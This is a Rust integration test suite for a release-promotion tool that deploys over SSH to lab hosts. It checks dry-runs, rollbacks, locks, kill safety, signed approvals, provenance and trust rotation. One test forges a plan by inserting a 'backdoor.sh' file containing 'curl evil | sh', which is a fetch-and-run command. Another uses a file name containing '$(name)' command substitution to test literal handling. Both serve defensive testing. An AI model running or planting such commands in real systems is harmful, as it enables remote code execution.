//! Promotion over SSH against the lab: dry-run changes nothing, apply moves every host,
//! failures roll back, stale plans and held locks are refused, a killed apply leaves
//! every host on the old or the new release, rollback restores.

mod common;

use common::*;
use std::process::{Command, Stdio};
use std::time::Duration;

#[tokio::test(flavor = "multi_thread")]
async fn a_dry_run_changes_nothing_anywhere() {
    let w = World::start(fleet(2)).await;
    let img = w.release("v1").await;
    let before = w.snapshot();
    let out = w.promote("staging", &img, &[]);
    assert_ok(&out);
    assert!(stdout(&out).contains("dry-run: nothing was changed"));
    assert!(stdout(&out).contains("stage-1"));
    let out = w.promote("staging", &img, &["--json"]);
    assert_ok(&out);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(doc["plan_id"].as_str().unwrap().starts_with("sha256:"));
    assert_same(&before, &w.snapshot(), "hosts, state database and receipts are byte-identical");
}

#[tokio::test(flavor = "multi_thread")]
async fn apply_moves_every_host_status_agrees_and_reapplying_is_a_noop() {
    let w = World::start(fleet(2)).await;
    let img = w.release("v1").await;
    // prod needs the release to have succeeded in staging first.
    assert_exit(&w.promote("prod", &img, &["--apply"]), 4, "has not succeeded in `staging`");
    assert_ok(&w.promote("staging", &img, &["--apply"]));
    let out = w.promote("prod", &img, &["--apply"]);
    assert_ok(&out);
    let id = w.current("prod-1").unwrap();
    assert_eq!(w.current("prod-2").unwrap(), id);
    assert!(id.starts_with("releases/r-"));
    let running = std::fs::read_to_string(w.lab.host("prod-1").runtime().join("api.running")).unwrap();
    assert_eq!(running.trim(), img.digest.as_str(), "the runtime activated the release");

    let out = w.agentctl(&["status"]);
    assert_ok(&out);
    assert!(stdout(&out).contains("3 in sync"), "{}", stdout(&out));

    let hosts_before = hosts_only(w.snapshot());
    let out = w.promote("prod", &img, &["--apply"]);
    assert_ok(&out);
    assert!(stdout(&out).contains("unchanged"), "{}", stdout(&out));
    assert_same(&hosts_before, &hosts_only(w.snapshot()), "re-applying touches no host");
    let receipts = w.receipts();
    assert_eq!(receipts.len(), 4, "refusal, staging, prod, no-op prod");
    assert_eq!(receipts[0]["kind"], "refusal");
    assert_ok(&w.agentctl(&["receipts", "verify"]));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_failed_health_check_in_batch_two_rolls_that_host_back_and_stops() {
    let w = World::start(fleet(3)).await;
    let v1 = w.deploy("v1", &["staging", "prod"]).await;
    let old = w.current("prod-1").unwrap();
    let v2 = w.deploy("v2", &["staging"]).await;

    w.runtime("prod-2", "fail-health", "");
    let out = w.promote("prod", &v2, &["--apply"]);
    assert_exit(&out, 1, "failed in batch 2 of 3");
    assert_eq!(w.live_digest("prod-1").as_deref(), Some(v2.digest.as_str()), "batch 1 keeps the new release");
    let new = w.current("prod-1").unwrap().replace("releases/", "");
    assert_eq!(w.current("prod-2").unwrap(), old, "the failed host is back on its target");
    assert_eq!(w.current("prod-3").unwrap(), old, "batch 3 is untouched");
    let running = std::fs::read_to_string(w.lab.host("prod-2").runtime().join("api.running")).unwrap();
    assert_eq!(running.trim(), v1.digest.as_str(), "the target was re-activated");

    let receipts = w.receipts();
    let last = receipts.last().unwrap();
    assert_eq!(last["outcome"], "failed");
    let outcome = |h: &str| last["hosts"].as_array().unwrap().iter().find(|x| x["host"] == h).unwrap().clone();
    assert_eq!(outcome("prod-1")["outcome"], "changed");
    assert_eq!(outcome("prod-1")["after"], new.as_str());
    assert_eq!(outcome("prod-2")["outcome"], "rolled-back");
    assert_eq!(outcome("prod-2")["after"], old.replace("releases/", "").as_str());
    assert_eq!(outcome("prod-3")["outcome"], "untouched");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_saved_plan_is_refused_as_stale_when_a_host_moved() {
    let w = World::start(fleet(1)).await;
    let img = w.release("v1").await;
    let dir = tempfile::tempdir().unwrap();
    let plan = dir.path().join("plan.json");
    assert_ok(&w.promote("staging", &img, &["--out", plan.to_str().unwrap()]));
    // The runtime now reports another digest: the plan's assumptions no longer hold.
    w.runtime("stage-1", "report", "sha256:0000000000000000000000000000000000000000000000000000000000000000");
    let out = w.agentctl(&["apply", plan.to_str().unwrap()]);
    assert_exit(&out, 4, "is stale");
    assert!(
        stderr(&out).contains("host `stage-1`: running digest was `none` when planned, is `sha256:0000"),
        "{}",
        stdout(&out)
    );
    assert!(w.current("stage-1").is_none(), "nothing was applied");
    assert_eq!(w.receipts().last().unwrap()["kind"], "refusal");

    // An edited plan file is refused too.
    w.clear_runtime("stage-1", "report");
    let text =
        std::fs::read_to_string(&plan).unwrap().replace("\"health_timeout_secs\": 10", "\"health_timeout_secs\": 11");
    std::fs::write(&plan, text).unwrap();
    assert_exit(&w.agentctl(&["apply", plan.to_str().unwrap()]), 4, "was edited");
}

#[tokio::test(flavor = "multi_thread")]
async fn of_two_concurrent_applies_one_proceeds_and_the_other_names_the_holder() {
    let w = World::start(fleet(1)).await;
    let img = w.release("v1").await;
    w.runtime("stage-1", "hang-health", "3");
    let mut first = Command::new(BIN)
        .arg("--manifests")
        .arg(w.manifests())
        .args(["promote", "api", "--env", "staging", "--release", img.digest.as_str(), "--apply"])
        .env("USER", "alice")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_lock(&w).await;
    let second = w.promote("staging", &img, &["--apply"]);
    assert_exit(&second, 4, "is locked by alice");
    assert!(stderr(&second).contains(&format!("pid {}", first.id())), "{}", stderr(&second));
    let status = first.wait().unwrap();
    assert!(status.success());
}

async fn wait_for_lock(w: &World) {
    for _ in 0..200 {
        let out = w.agentctl(&["unlock", "api", "--env", "staging"]);
        if out.status.code() == Some(0) && stdout(&out).contains("is locked by") {
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("the first apply never took the lock");
}

/// Starts an apply, waits until it swapped `host` away from `old` (the runtime shim then
/// hangs in activation or health check), and kills it with SIGKILL.
fn kill_during(w: &World, img: &str, host: &str, old: &str) {
    let mut child = Command::new(BIN)
        .arg("--manifests")
        .arg(w.manifests())
        .args(["promote", "api", "--env", "prod", "--release", img, "--apply"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    // The shim hangs only after `current` was swapped: wait for the swap.
    while w.current(host).as_deref() == Some(old) {
        assert!(std::time::Instant::now() < deadline, "apply never swapped {host}");
        std::thread::sleep(Duration::from_millis(20));
    }
    child.kill().unwrap(); // SIGKILL
    child.wait().unwrap();
}

/// No host may ever have a missing or half-written `current`: each points at a complete
/// release directory. A kill between the swap's two steps may leave its temporary link
/// (`.current.<pid>`) beside it: harmless only if it, too, names a complete release. (That
/// the swap is one rename and never an unlink is `core/src/steps.rs`'s strace test.)
fn assert_current_intact(w: &World, hosts: &[&str]) {
    for h in hosts {
        let link = w.lab.host(h).root().join("api/current");
        let target = std::fs::read_link(&link).unwrap_or_else(|_| panic!("{h}: `current` is missing"));
        let dir = link.parent().unwrap().join(&target);
        assert!(dir.join("release.json").is_file(), "{h}: `current` -> {} is not a complete release", target.display());
        for e in std::fs::read_dir(link.parent().unwrap()).unwrap() {
            let p = e.unwrap().path();
            if p.file_name().unwrap().to_string_lossy().starts_with(".current") {
                let t = std::fs::read_link(&p).unwrap_or_else(|_| panic!("{h}: {} is not a link", p.display()));
                assert!(
                    link.parent().unwrap().join(&t).join("release.json").is_file(),
                    "{h}: {} -> {t:?}",
                    p.display()
                );
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn sigkill_at_any_point_leaves_old_or_new_and_a_second_apply_completes() {
    let w = World::start(fleet(3)).await;
    w.deploy("v1", &["staging", "prod"]).await;
    let v2 = w.deploy("v2", &["staging"]).await;
    let hosts = ["prod-1", "prod-2", "prod-3"];
    let old = w.current("prod-1").unwrap();

    // Point 1: everything staged, prod-1 swapped, killed during its activation.
    w.runtime("prod-1", "hang-activate", "30");
    kill_during(&w, v2.digest.as_str(), "prod-1", &old);
    w.clear_runtime("prod-1", "hang-activate");
    assert_current_intact(&w, &hosts);
    let out = w.agentctl(&["status", "--env", "prod"]);
    assert_eq!(out.status.code(), Some(3), "{}", stdout(&out));
    let table = stdout(&out);
    assert!(
        table.lines().any(|l| l.contains("prod-1") && l.contains("drifted")),
        "the next run sees which host moved:\n{table}"
    );
    assert!(table.lines().any(|l| l.contains("prod-2") && l.contains("in-sync")), "{table}");
    // The dead holder's lock is taken over deliberately, with a receipt.
    assert_exit(&w.promote("prod", &v2, &["--apply"]), 4, "is locked by");
    assert_ok(&w.agentctl(&["unlock", "api", "--env", "prod", "--force"]));

    // Point 2: prod-1 done and recorded, prod-2 swapped, killed during its health check.
    w.runtime("prod-2", "hang-health", "30");
    kill_during(&w, v2.digest.as_str(), "prod-2", &old);
    w.clear_runtime("prod-2", "hang-health");
    assert_current_intact(&w, &hosts);
    let table = stdout(&w.agentctl(&["status", "--env", "prod"]));
    assert!(table.lines().any(|l| l.contains("prod-1") && l.contains("in-sync")), "{table}");
    assert!(table.lines().any(|l| l.contains("prod-2") && l.contains("drifted")), "{table}");
    assert!(table.lines().any(|l| l.contains("prod-3") && l.contains("in-sync")), "{table}");
    assert_ok(&w.agentctl(&["unlock", "api", "--env", "prod", "--force"]));

    // A second apply completes and everything is in sync.
    assert_ok(&w.promote("prod", &v2, &["--apply"]));
    assert_ok(&w.agentctl(&["status"]));
    let kinds: Vec<String> = w.receipts().iter().map(|r| r["kind"].as_str().unwrap().to_owned()).collect();
    assert_eq!(kinds.iter().filter(|k| *k == "lock-override").count(), 2, "{kinds:?}");
    assert_ok(&w.agentctl(&["receipts", "verify"]));
}

#[tokio::test(flavor = "multi_thread")]
async fn file_names_with_spaces_and_quotes_reach_the_host_literally() {
    let w = World::start(fleet(1)).await;
    let svc = w.manifests().join("services/api.toml");
    let text = std::fs::read_to_string(&svc).unwrap();
    std::fs::write(&svc, text + "\n[[template]]\nsource = \"templates/api.env.tera\"\ntarget = \"config/it's a \\\"quoted\\\" $(name).env\"\n").unwrap();
    assert_ok(&w.agentctl(&["check"]));
    w.deploy("v1", &["staging"]).await;
    let dir = w.lab.host("stage-1").root().join("api").join(w.current("stage-1").unwrap());
    assert!(
        dir.join("config/it's a \"quoted\" $(name).env").is_file(),
        "{:?}",
        std::fs::read_dir(dir.join("config")).unwrap().collect::<Vec<_>>()
    );
    assert_ok(&w.agentctl(&["status"]));
}

#[tokio::test(flavor = "multi_thread")]
async fn rollback_restores_the_previous_release_with_a_receipt() {
    let w = World::start(fleet(1)).await;
    let v1 = w.deploy("v1", &["staging"]).await;
    let old = w.current("stage-1").unwrap();
    w.deploy("v2", &["staging"]).await;
    assert_ne!(w.current("stage-1").unwrap(), old);

    let before = w.snapshot();
    let out = w.agentctl(&["rollback", "api", "--env", "staging"]);
    assert_ok(&out);
    assert!(stdout(&out).contains("roll back"), "{}", stdout(&out));
    assert_same(&before, &w.snapshot(), "a rollback plan changes nothing");
    assert_ok(&w.agentctl(&["rollback", "api", "--env", "staging", "--apply"]));
    assert_eq!(w.current("stage-1").unwrap(), old);
    let running = std::fs::read_to_string(w.lab.host("stage-1").runtime().join("api.running")).unwrap();
    assert_eq!(running.trim(), v1.digest.as_str());
    assert_eq!(w.receipts().last().unwrap()["kind"], "rollback");
    assert_ok(&w.agentctl(&["status"]));
}

/// `rollback --to` takes what `promote --release` takes: an image digest (whole, a prefix,
/// or `repo@digest`) of a release applied to the environment, as well as its id; an image
/// never applied there is refused as input (exit 2), naming it.
#[tokio::test(flavor = "multi_thread")]
async fn rollback_to_takes_a_digest_as_promote_does() {
    let w = World::start(fleet(1)).await;
    let v1 = w.deploy("v1", &["staging"]).await;
    let old = w.current("stage-1").unwrap();
    let v2 = w.deploy("v2", &["staging"]).await;
    let middle = w.current("stage-1").unwrap();
    // v3 live: the recorded way back is v2, so going to v1 is `--to` doing its work.
    w.deploy("v3", &["staging"]).await;
    let out = w.agentctl(&["rollback", "api", "--env", "staging"]);
    assert!(stdout(&out).contains(middle.trim_start_matches("releases/")), "{}", stdout(&out));
    let prefix = &v1.digest.as_str()[..19];
    for to in [v1.digest.as_str(), prefix, &s(&v1)] {
        let out = w.agentctl(&["rollback", "api", "--env", "staging", "--to", to]);
        assert_ok(&out);
        assert!(stdout(&out).contains(old.trim_start_matches("releases/")), "--to {to}: {}", stdout(&out));
        assert!(!stdout(&out).contains(middle.trim_start_matches("releases/")), "--to {to}: {}", stdout(&out));
    }
    assert_ok(&w.agentctl(&["rollback", "api", "--env", "staging", "--to", v1.digest.as_str(), "--apply"]));
    assert_eq!(w.current("stage-1").unwrap(), old);
    let never = w.release("v4").await;
    let out = w.agentctl(&["rollback", "api", "--env", "staging", "--to", never.digest.as_str()]);
    assert_exit(&out, 2, "was never applied");
    assert!(w.current("stage-1").unwrap() == old && v2.digest != never.digest);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rollback_whose_way_back_is_broken_says_so_before_anything_changes() {
    let w = World::start(fleet(1)).await;
    w.deploy("v1", &["staging"]).await;
    let old = w.current("stage-1").unwrap();
    w.deploy("v2", &["staging"]).await;
    // Someone edits the old release on the host.
    let target = w.lab.host("stage-1").root().join("api").join(&old);
    std::fs::write(target.join("config/api.env"), "edited").unwrap();
    let before = hosts_only(w.snapshot());
    let out = w.agentctl(&["rollback", "api", "--env", "staging", "--apply"]);
    assert_exit(&out, 4, "the way back is broken on host `stage-1`");
    assert_same(&before, &hosts_only(w.snapshot()), "no host changed");
    assert_eq!(w.receipts().last().unwrap()["kind"], "refusal", "the refused apply is on record");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_environment_that_requires_provenance_and_an_sbom_refuses_a_release_without() {
    let w = World::start(fleet(1)).await;
    let prod = w.manifests().join("environments/prod.toml");
    let text = std::fs::read_to_string(&prod).unwrap();
    std::fs::write(
        &prod,
        text.replacen("approvals = 0", "approvals = 0\nrequire_provenance = true\nrequire_sbom = true", 1),
    )
    .unwrap();
    assert_ok(&w.agentctl(&["check"]));
    let img = w.deploy("v1", &["staging"]).await;
    let before = hosts_only(w.snapshot());
    assert_exit(&w.promote("prod", &img, &[]), 4, "requires a provenance attestation");

    // With provenance naming the release's commit but still no SBOM: refused for the SBOM.
    let dir = tempfile::tempdir().unwrap();
    let prov = dir.path().join("prov.json");
    let predicate = serde_json::json!({
        "builder": { "id": "https://github.com/actions/runner" },
        "invocation": { "configSource": { "digest": { "sha1": COMMIT } } },
    });
    std::fs::write(&prov, predicate.to_string()).unwrap();
    let key = w.release_key();
    assert_ok(&w.agentctl(&[
        "attest",
        &img.to_string(),
        "--predicate",
        prov.to_str().unwrap(),
        "--type",
        "slsaprovenance",
        "--key",
        &key,
    ]));
    assert_exit(&w.promote("prod", &img, &["--apply"]), 4, "requires an SBOM attestation");
    assert_same(&before, &hosts_only(w.snapshot()), "a refused promotion touches no host");

    let sbom = dir.path().join("sbom.json");
    std::fs::write(&sbom, r#"{"bomFormat":"CycloneDX","specVersion":"1.5","components":[]}"#).unwrap();
    assert_ok(&w.agentctl(&[
        "attest",
        &img.to_string(),
        "--predicate",
        sbom.to_str().unwrap(),
        "--type",
        "cyclonedx",
        "--key",
        &key,
    ]));
    let out = w.promote("prod", &img, &["--apply"]);
    assert_ok(&out);
    let dir = w.lab.host("prod-1").root().join("api").join(w.current("prod-1").unwrap());
    let json: serde_json::Value = serde_json::from_slice(&std::fs::read(dir.join("release.json")).unwrap()).unwrap();
    assert!(
        json["provenance"].as_str().unwrap().starts_with("sha256:")
            && json["sbom"].as_str().unwrap().starts_with("sha256:")
    );
}

/// An SSH key pair made by `ssh-keygen`; returns (private key path, `allowed_signers` line).
fn approver_key(dir: &std::path::Path, who: &str) -> (std::path::PathBuf, String) {
    let path = dir.join(who);
    let ok = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", who, "-f"])
        .arg(&path)
        .status()
        .unwrap()
        .success();
    assert!(ok);
    let public = std::fs::read_to_string(path.with_extension("pub")).unwrap();
    (path, format!("{who} {}", public.split_whitespace().take(2).collect::<Vec<_>>().join(" ")))
}

/// Approvals prove who approved: SSH signatures by the environment's approvers, made by
/// `agentctl approve` or by `ssh-keygen -Y sign` alike, counted per distinct approver,
/// refused with their own reasons, and checkable by an auditor with `ssh-keygen -Y verify`.
#[tokio::test(flavor = "multi_thread")]
async fn prod_applies_only_with_signed_approvals_by_its_approvers() {
    let w = World::start(fleet(1)).await;
    let keys = tempfile::tempdir().unwrap();
    let (carol, carol_line) = approver_key(keys.path(), "carol");
    let (dave, dave_line) = approver_key(keys.path(), "dave");
    let (tester, tester_line) = approver_key(keys.path(), "tester"); // the plans' author (USER)
    let (mallory, _) = approver_key(keys.path(), "mallory");
    let signers = w.manifests().join("trust/prod.allowed_signers");
    std::fs::write(&signers, format!("{carol_line}\n{dave_line}\n{tester_line}\n")).unwrap();
    let prod = w.manifests().join("environments/prod.toml");
    let text = std::fs::read_to_string(&prod).unwrap();
    std::fs::write(
        &prod,
        text.replacen("approvals = 0", "approvals = 2\napprovers = \"trust/prod.allowed_signers\"", 1),
    )
    .unwrap();
    assert_ok(&w.agentctl(&["check"]));

    let img = w.deploy("v1", &["staging"]).await;
    let dir = tempfile::tempdir().unwrap();
    let plan = dir.path().join("plan.json");
    let plan = plan.to_str().unwrap();
    assert_ok(&w.promote("prod", &img, &["--out", plan]));
    assert_exit(&w.agentctl(&["apply", plan]), 4, "needs 2 approval(s) and has 0");

    // A key that is not an approver's is refused at once.
    let key = |p: &std::path::Path| p.to_str().unwrap().to_owned();
    assert_exit(&w.agentctl(&["approve", plan, "--key", &key(&mallory)]), 4, "not one of the environment's approvers");
    // carol signs with agentctl; dave with ssh-keygen (an agent or a hardware key works the same way).
    assert_ok(&w.agentctl(&["approve", plan, "--key", &key(&carol)]));
    let out = w.agentctl(&["approve", plan, "--print-statement"]);
    assert_ok(&out);
    let st = dir.path().join("statement");
    std::fs::write(&st, [out.stdout.as_slice()].concat()).unwrap();
    let ok = Command::new("ssh-keygen")
        .args(["-Y", "sign", "-q", "-n", "agentctl-approval", "-f"])
        .arg(&dave)
        .arg(&st)
        .status()
        .unwrap();
    assert!(ok.success());
    let sig = dir.path().join("statement.sig");
    let approval = dir.path().join("dave.approval");
    let out =
        w.agentctl(&["approve", plan, "--statement", &key(&st), "--signature", &key(&sig), "--out", &key(&approval)]);
    assert_ok(&out);
    // The author's own approval cannot count (separation of duties): refused at once,
    // not accepted and then ignored at apply (which it was).
    let out = w.agentctl(&["approve", plan, "--key", &key(&tester)]);
    assert_exit(&out, 4, "`tester` made this plan");
    assert!(stderr(&out).contains("another approver of `prod` signs it"), "{}", stderr(&out));
    let out = w.agentctl(&["apply", plan]);
    assert_ok(&out);
    assert!(w.current("prod-1").is_some());

    // The receipt carries the signed statements; an auditor checks them with ssh-keygen.
    let last = w.receipts().last().unwrap().clone();
    let approvers: Vec<&str> =
        last["approvals"].as_array().unwrap().iter().map(|a| a["approver"].as_str().unwrap()).collect();
    assert_eq!(approvers, ["carol", "dave"], "tester's own approval did not count");
    for a in last["approvals"].as_array().unwrap() {
        let who = a["approver"].as_str().unwrap();
        let st = dir.path().join(format!("{who}.statement"));
        let sig = dir.path().join(format!("{who}.sig"));
        std::fs::write(&st, a["statement"].as_str().unwrap()).unwrap();
        std::fs::write(&sig, a["signature"].as_str().unwrap()).unwrap();
        let verify = Command::new("ssh-keygen")
            .args(["-Y", "verify", "-n", "agentctl-approval", "-I", who, "-f"])
            .arg(&signers)
            .arg("-s")
            .arg(&sig)
            .stdin(std::fs::File::open(&st).unwrap())
            .output()
            .unwrap();
        assert!(verify.status.success(), "{who}: {}", String::from_utf8_lossy(&verify.stderr));
    }
}

/// An approval made for one plan does not count for another, even as a file handed over.
#[tokio::test(flavor = "multi_thread")]
async fn an_approval_of_another_plan_is_refused_with_its_reason() {
    let w = World::start(fleet(1)).await;
    let keys = tempfile::tempdir().unwrap();
    let (carol, carol_line) = approver_key(keys.path(), "carol");
    std::fs::write(w.manifests().join("trust/prod.allowed_signers"), format!("{carol_line}\n")).unwrap();
    let prod = w.manifests().join("environments/prod.toml");
    let text = std::fs::read_to_string(&prod).unwrap();
    std::fs::write(
        &prod,
        text.replacen("approvals = 0", "approvals = 1\napprovers = \"trust/prod.allowed_signers\"", 1),
    )
    .unwrap();
    let img = w.deploy("v1", &["staging"]).await;
    let dir = tempfile::tempdir().unwrap();
    let p = |n: &str| dir.path().join(n).to_str().unwrap().to_owned();
    assert_ok(&w.promote("prod", &img, &["--out", &p("first.json")]));
    assert_ok(&w.agentctl(&[
        "approve",
        &p("first.json"),
        "--key",
        carol.to_str().unwrap(),
        "--out",
        &p("first.approval"),
    ]));
    // Plans carry their making time in milliseconds: the next plan is another plan.
    assert_ok(&w.promote("prod", &img, &["--out", &p("second.json")]));
    let out = w.agentctl(&["apply", &p("second.json"), "--approval", &p("first.approval")]);
    assert_exit(&out, 4, "it approves plan");
    assert!(w.current("prod-1").is_none());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_forged_plan_with_a_recomputed_id_is_refused() {
    let w = World::start(fleet(1)).await;
    let img = w.release("v1").await;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("plan.json");
    assert_ok(&w.promote("staging", &img, &["--out", path.to_str().unwrap()]));
    // Someone slips a file into the plan and recomputes its id: it is self-consistent.
    let mut saved: controlplane::plan::SavedPlan = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    use base64::Engine as _;
    saved.plan.files.insert("backdoor.sh".into(), base64::engine::general_purpose::STANDARD.encode("curl evil | sh"));
    saved.plan_id = saved.plan.id();
    std::fs::write(&path, serde_json::to_vec(&saved).unwrap()).unwrap();
    let before = hosts_only(w.snapshot());
    assert_exit(&w.agentctl(&["apply", path.to_str().unwrap()]), 4, "`files`: the plan file says");
    assert_same(&before, &hosts_only(w.snapshot()), "nothing staged");
}

/// Regression: a plan applied earlier applied again once the hosts happened to match its
/// fingerprints again, moving the environment to a release nobody asked for now.
#[tokio::test(flavor = "multi_thread")]
async fn an_applied_plan_replayed_after_the_hosts_return_to_its_fingerprints_is_refused() {
    let w = World::start(fleet(1)).await;
    w.deploy("v1", &["staging"]).await;
    let v2 = w.release("v2").await;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("plan.json");
    let path = path.to_str().unwrap();
    assert_ok(&w.promote("staging", &v2, &["--out", path]));
    assert_ok(&w.agentctl(&["apply", path]));
    assert_ok(&w.agentctl(&["rollback", "api", "--env", "staging", "--apply"]));
    let before = hosts_only(w.snapshot());
    assert_exit(&w.agentctl(&["apply", path]), 4, "is already applied (receipt");
    assert_same(&before, &hosts_only(w.snapshot()), "nothing moved");
    assert_eq!(w.receipts().last().unwrap()["kind"], "refusal");
}

/// Regression: a step that timed out left its remote processes running on the host.
#[tokio::test(flavor = "multi_thread")]
async fn a_health_check_past_its_deadline_is_ended_on_the_host() {
    let w = World::start(fleet(1)).await;
    let img = w.release("v1").await;
    // Longer than the lab's health timeout; a duration no other test uses.
    w.runtime("stage-1", "hang-health", "47");
    let out = w.promote("staging", &img, &["--apply"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("did not finish within"), "{}", stderr(&out));
    let sleeping = || {
        std::fs::read_dir("/proc")
            .unwrap()
            .filter_map(|e| std::fs::read(e.ok()?.path().join("cmdline")).ok())
            .any(|c| c == b"sleep\x0047\x00")
    };
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while sleeping() {
        assert!(std::time::Instant::now() < deadline, "the health check's `sleep 47` still runs on the host");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Rollback proof before production: a prod promotion without a rehearsal receipt is
/// refused; after `rehearse --apply` in staging (promote, roll back, promote) it proceeds.
#[tokio::test(flavor = "multi_thread")]
async fn prod_requires_a_rehearsal_in_staging_first() {
    let w = World::start(fleet(1)).await;
    w.deploy("v1", &["staging", "prod"]).await;
    let v2 = w.deploy("v2", &["staging"]).await;
    let prod = w.manifests().join("environments/prod.toml");
    let text = std::fs::read_to_string(&prod).unwrap();
    std::fs::write(&prod, text.replacen("approvals = 0", "approvals = 0\nrequire_rehearsal = true", 1)).unwrap();
    let before = hosts_only(w.snapshot());
    assert_exit(&w.promote("prod", &v2, &["--apply"]), 4, "has no rollback rehearsal before `prod`");
    assert_same(&before, &hosts_only(w.snapshot()), "nothing moved");
    // A dry-run rehearsal changes nothing.
    let reference = v2.digest.to_string();
    assert_ok(&w.agentctl(&["rehearse", "api", "--env", "staging", "--release", &reference]));
    assert_same(&before, &hosts_only(w.snapshot()), "dry-run");
    let out = w.agentctl(&["rehearse", "api", "--env", "staging", "--release", &reference, "--apply"]);
    assert_ok(&out);
    let kinds: Vec<String> =
        w.receipts().iter().rev().take(3).map(|r| r["kind"].as_str().unwrap().to_owned()).collect();
    assert_eq!(kinds, ["rehearsal", "apply", "rollback"], "newest first");
    assert_ok(&w.promote("prod", &v2, &["--apply"]));
    assert_eq!(w.live_digest("prod-1").as_deref(), Some(v2.digest.as_str()));
    assert_ok(&w.agentctl(&["receipts", "verify"]));
}

/// Signatures are verified when a plan is made and again when it is applied: a release
/// whose signer the trust policy stopped trusting after the plan was saved is refused at
/// apply (exit 4, receipt, no host moved); planned anew it is refused at plan time; an image
/// that was never signed cannot be planned.
#[tokio::test(flavor = "multi_thread")]
async fn a_signer_no_longer_trusted_is_refused_at_plan_and_at_apply() {
    let w = World::start(fleet(1)).await;
    let img = w.release("v1").await;
    let dir = tempfile::tempdir().unwrap();
    let plan = dir.path().join("plan.json");
    assert_ok(&w.promote("staging", &img, &["--out", plan.to_str().unwrap()]));

    // The trust policy rotates to another key: the release's signer is no longer trusted.
    let prefix = dir.path().join("new");
    assert_ok(&w.agentctl(&["keys", "generate", "--out", prefix.to_str().unwrap()]));
    let trusted = w.manifests().join("trust/release.pub");
    std::fs::copy(prefix.with_extension("pub"), &trusted).unwrap();
    let before = hosts_only(w.snapshot());
    let out = w.agentctl(&["apply", plan.to_str().unwrap()]);
    assert_exit(&out, 4, "no trusted key");
    assert_same(&before, &hosts_only(w.snapshot()), "no host changed");
    assert_eq!(w.receipts().last().unwrap()["kind"], "refusal");
    assert_exit(&w.promote("staging", &img, &[]), 4, "no trusted key");
    assert_exit(&w.promote("staging", &img, &["--apply"]), 4, "no trusted key");
    assert!(w.current("stage-1").is_none(), "nothing was applied");
}

/// The rollback target is hashed again at apply: a saved rollback plan whose target
/// directory was edited on the host after the plan was made is refused, nothing moves.
#[tokio::test(flavor = "multi_thread")]
async fn a_rollback_target_altered_after_the_plan_is_refused_at_apply() {
    let w = World::start(fleet(1)).await;
    w.deploy("v1", &["staging"]).await;
    let old = w.current("stage-1").unwrap();
    w.deploy("v2", &["staging"]).await;
    let dir = tempfile::tempdir().unwrap();
    let plan = dir.path().join("rollback.json");
    assert_ok(&w.agentctl(&["rollback", "api", "--env", "staging", "--out", plan.to_str().unwrap()]));
    let target = w.lab.host("stage-1").root().join("api").join(&old);
    std::fs::write(target.join("config/api.env"), "edited after the plan").unwrap();
    let before = hosts_only(w.snapshot());
    let out = w.agentctl(&["apply", plan.to_str().unwrap()]);
    assert_exit(&out, 4, "the way back is broken on host `stage-1`");
    assert!(stderr(&out).contains("not the recorded sha256:"), "{}", stderr(&out));
    assert_same(&before, &hosts_only(w.snapshot()), "no host changed");
    assert_eq!(w.receipts().last().unwrap()["kind"], "refusal");
}
